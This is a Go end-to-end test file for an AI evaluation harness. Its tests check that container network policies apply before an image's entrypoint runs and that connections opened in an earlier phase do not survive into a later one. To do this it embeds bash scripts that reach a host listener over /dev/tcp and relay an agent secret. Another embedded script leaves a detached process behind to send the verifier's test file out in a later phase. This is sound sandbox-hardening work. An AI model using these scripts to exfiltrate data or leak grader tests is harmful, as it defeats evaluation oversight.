//go:build hostile

package e2e

// The hostile-input suite's sixth round (issue #40): a trial's first
// network policy must be in force before its image's ENTRYPOINT runs.
// Before, the container started on its network and the allowlist's table
// (or the no-network phase's disconnect) came after: about 46 ms in which
// the entrypoint reached whatever it liked, and an allowlist that let an
// established connection through for the rest of the trial.

import (
	"fmt"
	"net"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/headroom-eval/headroom/runner/docker"
)

// hostListener is the row's own server on every address of the host's:
// what each connection to it sent (its first 64 KiB), counted here and
// not taken from the trial's word.
type hostListener struct {
	port int
	mu   sync.Mutex
	got  []string
}

func listenOnHost(t *testing.T) *hostListener {
	t.Helper()
	ln, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	h := &hostListener{port: ln.Addr().(*net.TCPAddr).Port}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			// Counted as it is accepted: a connection whose trial lost
			// its network is never closed from there.
			h.mu.Lock()
			i := len(h.got)
			h.got = append(h.got, fmt.Sprintf("from %s", c.RemoteAddr()))
			h.mu.Unlock()
			go func() {
				defer c.Close()
				_ = c.SetReadDeadline(time.Now().Add(5 * time.Minute))
				buf := make([]byte, 0, 4096)
				for len(buf) < 64<<10 {
					n, err := c.Read(buf[len(buf):cap(buf)])
					buf = buf[:len(buf)+n]
					h.mu.Lock()
					h.got[i] = fmt.Sprintf("from %s: %q", c.RemoteAddr(), buf)
					h.mu.Unlock()
					if err != nil {
						return
					}
					if len(buf) == cap(buf) {
						buf = append(buf, make([]byte, 4096)...)[:len(buf)]
					}
				}
			}()
		}
	}()
	return h
}

// accepted is what the listener took in so far.
func (h *hostListener) accepted() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.got...)
}

// netRace is one network row's run: a Harbor task (files, in directory
// dir of a fresh tasks root, as name), its oracle once at 1x, what the
// run left (containers and the experiment's networks) and what the row's
// listener took in by the end. The task itself is fine: anything but one
// passed trial fails the row.
type netRace struct {
	run                    result
	out                    string
	recs                   []map[string]any
	outcome, cause, reason string
	left                   int
	got                    []string
}

func runNetRace(t *testing.T, bin string, ln *hostListener, dir, name string, files map[string]string) netRace {
	t.Helper()
	tasks := filepath.Join(t.TempDir(), "tasks")
	harborTask(t, tasks, dir, name, files)
	t.Cleanup(func() { removeTaskImages(t, name) })
	r := netRace{out: filepath.Join(t.TempDir(), "out")}
	r.run = runBin(t, bin, nil, oracleArgs(tasks, name, r.out)...)
	exp, recs, left := records(t, r.out)
	r.recs, r.left = recs, left+len(networksLeft(t, filepath.Base(exp)))
	r.outcome, r.cause, r.reason = oneRecord(recs)
	r.got = ln.accepted()
	if len(recs) != 1 || r.outcome != "passed" {
		t.Errorf("exit %d; %s · %s: %s; want one passed trial (the task itself is fine)\n%s", r.run.code, r.outcome, orNone(r.cause), r.reason, r.run.stderr)
	}
	return r
}

// said is the row's recorded column: the exit, the outcome, more, and
// the row's time since start.
func (r netRace) said(more string, start time.Time) string {
	return fmt.Sprintf("exit %d; %s · %s; %s (%s)", r.run.code, r.outcome, orNone(r.cause), more, time.Since(start).Round(time.Second))
}

// earlyEntrypoint is an image ENTRYPOINT that, before it hands over to
// the idle command, tries to reach the row's listener from its first
// millisecond for `tries` seconds (having first written the network
// interfaces it found to /tmp/first-net); once connected it says "early" and
// relays the agent's secret (/tmp/secret, written by solve.sh) when it
// appears.
func earlyEntrypoint(gateway string, port int, tries string) string {
	return fmt.Sprintf(`#!/bin/bash
grep -o '^ *[a-z0-9]*:' /proc/net/dev | tr -d ' :' | tr '\n' ' ' > /tmp/first-net
(
  end=$((SECONDS + %[3]s))
  while [ $SECONDS -lt $end ]; do
    if exec 3<>/dev/tcp/%[1]s/%[2]d; then
      echo early >&3
      for _ in $(seq 1 600); do
        if [ -s /tmp/secret ]; then cat /tmp/secret >&3; break; fi
        sleep 0.1
      done
      exec 3>&-
      exit 0
    fi 2>/dev/null
    sleep 0.005
  done
) &
exec "$@"
`, gateway, port, tries)
}

// Round six, item 1: a Harbor task whose allowed_hosts names one address
// (not the host's) and whose image's ENTRYPOINT connects to the host at
// once: on 2abd0ba the connection was made before the allowlist's table,
// which accepted it as established, and the agent's secret went out
// through it. The listener must take in nothing.
func TestHostileR6AllowlistEntrypointRace(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	start := time.Now()
	gateway, _ := hostAddresses(t)
	ln := listenOnHost(t)
	name := "hostile-r6/allowlist-race"
	r := runNetRace(t, bin, ln, "race", name, map[string]string{
		"task.toml":              fmt.Sprintf("schema_version = \"1.3\"\n[task]\nname = %q\n[verifier]\ntimeout_sec = 60.0\n[agent]\ntimeout_sec = 60.0\n[environment]\ncpus = 1\nmemory_mb = 256\nnetwork_mode = \"allowlist\"\nallowed_hosts = [\"192.0.2.1\"]\n", name),
		"environment/early.sh":   earlyEntrypoint(gateway, ln.port, "20"),
		"environment/Dockerfile": "FROM " + docker.DebianImage + "\nCOPY early.sh /early.sh\nRUN chmod 755 /early.sh\nENTRYPOINT [\"/early.sh\"]\n",
		"solution/solve.sh":      "#!/bin/bash\necho AGENT-SECRET-6a1 > /tmp/secret\nsleep 3\n",
		"tests/test.sh":          "#!/bin/bash\nmkdir -p /logs/verifier\necho 1 > /logs/verifier/reward.txt\n",
	})
	if len(r.got) > 0 {
		t.Errorf("the row's listener (not in allowed_hosts) took in %d connection(s) from the trial's entrypoint: %v", len(r.got), r.got)
	}
	letoutRow(t, fmt.Sprintf("a Harbor task with `allowed_hosts = [\"192.0.2.1\"]` whose image's ENTRYPOINT connects to the row's listener on the host (%s:%d) from its first millisecond and relays the agent's /tmp/secret through it", gateway, ln.port),
		r.said(fmt.Sprintf("the listener took in %d connection(s) %s", len(r.got), strings.Join(r.got, "; ")), start),
		1-len(r.recs), len(r.got)+r.left, 0)
}

// Round six, item 1's second case: a no-network task whose verifier
// phase has the network. Its container must start with none: on
// 2abd0ba it started on its bridge and was disconnected after, and the
// entrypoint reached the host before the disconnect (1 run in 2 for the
// attacker). The entrypoint tries for 2 s only; the agent's phase lasts
// 4 s, so anything the listener takes in came before the verifier's
// phase.
func TestHostileR6NoNetworkEntrypointRace(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	start := time.Now()
	gateway, _ := hostAddresses(t)
	ln := listenOnHost(t)
	name := "hostile-r6/nonet-race"
	r := runNetRace(t, bin, ln, "nonetrace", name, map[string]string{
		"task.toml":              fmt.Sprintf("schema_version = \"1.3\"\n[task]\nname = %q\n[verifier]\ntimeout_sec = 60.0\nnetwork_mode = \"public\"\n[agent]\ntimeout_sec = 60.0\n[environment]\ncpus = 1\nmemory_mb = 256\nnetwork_mode = \"no-network\"\n", name),
		"environment/early.sh":   earlyEntrypoint(gateway, ln.port, "2"),
		"environment/Dockerfile": "FROM " + docker.DebianImage + "\nCOPY early.sh /early.sh\nRUN chmod 755 /early.sh\nENTRYPOINT [\"/early.sh\"]\n",
		"solution/solve.sh":      "#!/bin/bash\necho AGENT-SECRET-6a2 > /tmp/secret\necho \"FIRST-NET [$(cat /tmp/first-net)]\"\nsleep 4\n",
		"tests/test.sh":          "#!/bin/bash\nmkdir -p /logs/verifier\necho 1 > /logs/verifier/reward.txt\n",
	})
	if len(r.got) > 0 {
		t.Errorf("the row's listener took in %d connection(s) from a no-network trial's entrypoint: %v", len(r.got), r.got)
	}
	// What the entrypoint saw first: a race the listener may miss (the
	// disconnect came some milliseconds after the start) is seen here
	// every time.
	first := "no FIRST-NET line in the experiment's files"
	for _, body := range experimentFiles(t, r.out) {
		if i := strings.Index(body, "FIRST-NET ["); i >= 0 {
			first, _, _ = strings.Cut(body[i:], "]")
			first += "]"
			break
		}
	}
	forged := 0
	if first != "FIRST-NET [lo ]" {
		forged++
		t.Errorf("the entrypoint's first look at the network: %s; want only lo (the task's first phase has no network)", first)
	}
	letoutRow(t, fmt.Sprintf("a Harbor task with `network_mode = \"no-network\"` and `[verifier] network_mode = \"public\"` whose image's ENTRYPOINT tries the row's listener on the host (%s:%d) for its first 2 s", gateway, ln.port),
		r.said(fmt.Sprintf("the entrypoint's first look: %s; the listener took in %d connection(s) %s", first, len(r.got), strings.Join(r.got, "; ")), start),
		1-len(r.recs), len(r.got)+r.left, forged)
}

// Round six, item 1's third case: the agent's phase is public and the
// verifier's an allowlist. A process the agent left behind keeps the
// connection it opened in its phase and sends the verifier's tests out
// through it once they are uploaded: the allowlist's table accepted every
// established connection, so what the verifier's phase refused to new
// connections went out through an old one. Only the agent's own line
// may reach the listener.
func TestHostileR6AllowlistKeepsNoOldConnection(t *testing.T) {
	needEngine(t)
	bin := hostileBin(t)
	start := time.Now()
	gateway, _ := hostAddresses(t)
	ln := listenOnHost(t)
	name := "hostile-r6/allowlist-old-conn"
	relay := fmt.Sprintf(`#!/bin/bash
setsid bash -c '
  exec 3<>/dev/tcp/%s/%d || exit 1
  echo agent-phase >&3
  for _ in $(seq 1 1200); do
    if [ -s /tests/test.sh ]; then sleep 0.2; cat /tests/test.sh >&3; exit 0; fi
    sleep 0.05
  done' </dev/null >/dev/null 2>&1 &
sleep 1
`, gateway, ln.port)
	r := runNetRace(t, bin, ln, "oldconn", name, map[string]string{
		"task.toml":         fmt.Sprintf("schema_version = \"1.3\"\n[task]\nname = %q\n[agent]\ntimeout_sec = 60.0\nnetwork_mode = \"public\"\n[verifier]\ntimeout_sec = 60.0\nnetwork_mode = \"allowlist\"\nallowed_hosts = [\"192.0.2.1\"]\n[environment]\ncpus = 1\nmemory_mb = 256\n", name),
		"solution/solve.sh": relay,
		"tests/test.sh":     "#!/bin/bash\n# TEST-SECRET-6a3\nsleep 3\nmkdir -p /logs/verifier\necho 1 > /logs/verifier/reward.txt\n",
	})
	all := strings.Join(r.got, "; ")
	leaked := strings.Count(all, "TEST-SECRET")
	if leaked > 0 {
		t.Errorf("the verifier's tests went out through the agent's old connection: %s", all)
	}
	lost := 1 - len(r.recs)
	if !strings.Contains(all, "agent-phase") {
		lost++
		t.Errorf("the listener took in %q: the agent's phase (public) did not reach it, so the row tried nothing", all)
	}
	letoutRow(t, fmt.Sprintf("a Harbor task whose agent phase is public and verifier phase an allowlist (`192.0.2.1`): solve.sh leaves a process holding a connection to the row's listener (%s:%d) that sends /tests/test.sh through it once uploaded", gateway, ln.port),
		r.said("the listener took in "+all, start), lost, leaked+r.left, 0)
}
